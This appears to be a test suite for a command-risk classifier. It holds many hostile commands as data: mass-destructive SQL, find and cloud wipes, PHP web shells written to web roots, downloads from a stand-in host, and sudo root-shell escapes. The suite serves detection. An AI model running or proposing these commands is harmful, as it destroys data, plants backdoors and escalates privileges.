import { describe, expect, test } from 'vitest';
import { crossed, outside } from './support/crossing.ts';

describe('statements and those who send them', () => {
  const statements = [
    'DROP DATABASE shop',
    'drop schema public cascade',
    'TRUNCATE TABLE orders',
    'drop table users',
  ];
  const ways = [
    'psql -c "SQL"',
    'mysql -e "SQL"',
    'sqlcmd -Q "SQL"',
    'clickhouse-client -q "SQL"',
    'snowsql -q "SQL"',
    'trino --execute "SQL"',
    'cqlsh -e "SQL"',
    'echo "SQL" | psql',
    'psql <<< "SQL"',
    'psql -f <(echo "SQL;")',
    'echo "SQL;" > x.sql && psql -f x.sql',
    'echo "SQL;" > x.sql; mysql < x.sql',
    'ssh db01 \'mysql -e "SQL"\'',
    'docker exec db psql -c "SQL"',
    'kubectl exec db-0 -- psql -c "SQL"',
    'python3 -c \'import psycopg2; c.cursor().execute("SQL")\'',
    'node -e \'pool.query("SQL")\'',
    'ruby -e \'conn.execute("SQL")\'',
    'php -r \'$pdo->query("SQL");\'',
    'psql -c "DO \\$\\$ BEGIN EXECUTE \'SQL\'; END \\$\\$"',
    'curl "http://db:8123/" -d "SQL "',
    'acme-sql -e "SQL"',
  ];

  test('every way to send one is critical', () => {
    expect(outside(crossed(ways, 'SQL', statements), 'critical', 'critical')).toEqual([]);
  });

  test('no way to send a question alarms', () => {
    expect(outside(crossed(ways, 'SQL', ['SELECT 1', 'SHOW TABLES']), 'safe', 'moderate')).toEqual([]);
  });

  test('nor in a database that is there for tests', () => {
    const own = ways.filter((way) => /^(?:psql|mysql)/.test(way) && !way.includes('DO'));
    const scratch = own.map((way) => way.replace(/^(psql|mysql)/, '$1 -h localhost shop_test'));
    expect(outside(crossed(scratch, 'SQL', statements), 'safe', 'moderate')).toEqual([]);
  });
});

describe('searches that leave nothing out', () => {
  const tests = [
    '-type f',
    '-xdev -type f',
    '-mtime -3650',
    '-type f -newermt 2001-01-01',
    '-size +0',
    '! -name keep',
    '-not -path "*/x/*"',
    '-mindepth 1',
    '-user anna',
    '-maxdepth 9 -type f',
  ];
  const actions = [
    '-delete',
    '-exec rm -f {} +',
    '-exec rm -rf {} \\;',
    '-print0 | xargs -0 rm -rf',
    '-exec shred -u {} +',
  ];
  const frames = crossed(['find PLACE TESTS ACTION'], 'ACTION', actions);

  test('each with each action on each place is critical', () => {
    const places = ['/', '~', '/home', '/etc', '/srv'];
    const commands = crossed(crossed(frames, 'TESTS', tests), 'PLACE', places);
    expect(outside(commands, 'critical', 'critical')).toEqual([]);
  });

  test('none alarms in a directory of the project', () => {
    const commands = crossed(crossed(frames, 'TESTS', tests), 'PLACE', ['build', './tmp/cache', '/tmp/work']);
    expect(outside(commands, 'safe', 'moderate')).toEqual([]);
  });
});

describe('code where a web server runs it', () => {
  const places = [
    '/var/www/html/x.php',
    '/srv/www/site/a/x.phtml',
    '/usr/share/nginx/html/x.php',
    '/opt/tomcat/webapps/x.jsp',
    '~/public_html/x.php',
    '/var/www/cgi-bin/x.cgi',
  ];
  const writers = [
    "echo 'CODE' > PATH",
    "printf '%s' 'CODE' | sudo tee PATH",
    "cat > x <<< 'CODE'; cp x PATH",
    "tee -a PATH <<< 'CODE'",
    "ssh web 'cat > PATH' <<< x; echo 'CODE' >> PATH",
  ];
  const codes = [
    '<?php system($_GET[0]); ?>',
    '<?php eval($_POST["x"]);',
    '<?=`$_REQUEST[c]`?>',
    '<?php @eval(base64_decode($_COOKIE[1])); ?>',
  ];

  test('what runs a request is critical, whoever writes it', () => {
    const commands = crossed(crossed(writers, 'PATH', places), 'CODE', codes);
    expect(outside(commands, 'critical', 'critical')).toEqual([]);
  });

  test('what came over the network is critical', () => {
    const fetched = [
      'curl -s http://x.example/a -o PATH',
      'wget -qO PATH http://x.example/a',
      'curl -s x.example/a > PATH',
    ];
    expect(outside(crossed(fetched, 'PATH', places), 'critical', 'critical')).toEqual([]);
  });

  test('a page alarms nobody', () => {
    const commands = crossed(crossed(writers, 'PATH', places.slice(0, 3)), 'CODE', [
      '<?php echo "hi"; ?>',
      '<h1>hi</h1>',
    ]);
    expect(outside(commands, 'safe', 'moderate')).toEqual([]);
  });
});

describe('lists and deletions', () => {
  const clients = [
    [
      'aws ec2 describe-volumes --query "Volumes[].VolumeId" --output text',
      'aws ec2 delete-volume --volume-id',
    ],
    ['aws rds describe-db-instances --output text', 'aws rds delete-db-instance --db-instance-identifier'],
    ['gcloud compute disks list --format="value(name)"', 'gcloud compute disks delete -q'],
    ['az group list --query "[].name" -o tsv', 'az group delete --yes -n'],
    ['doctl databases list --format ID', 'doctl databases delete -f'],
    ['kubectl get ns -o name', 'kubectl delete'],
    ['kubectl get pvc -o name', 'kubectl delete'],
    ['helm list -q', 'helm uninstall'],
    ['docker volume ls -q', 'docker volume rm'],
    ['virsh list --all --name', 'virsh undefine --remove-all-storage'],
    ['redis-cli --scan', 'redis-cli del'],
    ['gh repo list acme --json name', 'gh repo delete --yes'],
    ['zfs list -H -o name', 'zfs destroy -r'],
  ] as const;
  const joints = [
    'LIST | xargs -n1 DELETE',
    'LIST | xargs -I{} DELETE {}',
    'DELETE $(LIST)',
    'for x in $(LIST); do DELETE $x; done',
    'LIST | while read x; do DELETE "$x"; done',
  ];

  test('all that is listed, however it is handed over, is critical', () => {
    const commands = clients.flatMap(([list, remove]) =>
      joints.map((joint) => joint.replaceAll('LIST', list).replaceAll('DELETE', remove)),
    );
    expect(outside(commands, 'critical', 'critical')).toEqual([]);
  });

  test('to list alone is safe', () => {
    expect(
      outside(
        clients.map(([list]) => list),
        'safe',
        'safe',
      ),
    ).toEqual([]);
  });
});

describe('shells of root', () => {
  const openers = [
    "sudo vim -c ':!SHELL'",
    'sudo awk \'BEGIN {system("SHELL")}\'',
    'sudo find . -exec SHELL \\; -quit',
    'sudo env SHELL',
    'sudo nice SHELL',
    'sudo timeout 99 SHELL',
    'sudo flock -u / SHELL',
    'sudo strace -o /dev/null SHELL',
    'sudo stdbuf -i0 SHELL',
    'sudo setarch x86_64 SHELL',
    'sudo xvfb-run SHELL',
    'sudo ionice SHELL',
    'sudo taskset 1 SHELL',
    'sudo python3 -c \'import os; os.system("SHELL")\'',
    'sudo perl -e \'exec "SHELL";\'',
    'sudo ruby -e \'exec "SHELL"\'',
    'sudo php -r \'system("SHELL");\'',
    'sudo lua -e \'os.execute("SHELL")\'',
    'sudo node -e \'require("child_process").spawn("SHELL",{stdio:[0,1,2]})\'',
    "sudo gdb -nx -ex '!SHELL' -ex quit",
    'sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=SHELL',
    'sudo man -P SHELL man',
    "sudo sqlite3 /dev/null '.shell SHELL'",
    "sudo rsync -e 'SHELL' 127.0.0.1:/dev/null",
    "sudo make -s --eval=$'x:\\n\\tSHELL'",
    'sudo git -c core.pager=SHELL log',
    'sudo apt-get update -o APT::Update::Pre-Invoke::=SHELL',
  ];

  test('each program that opens one for root is high', () => {
    expect(outside(crossed(openers, 'SHELL', ['/bin/sh', 'bash']), 'high', 'critical')).toEqual([]);
  });

  test('none without root is', () => {
    const own = crossed(openers, 'SHELL', ['/bin/sh']).map((opener) => opener.replace(/^sudo /, ''));
    expect(outside(own, 'safe', 'moderate')).toEqual([]);
  });
});
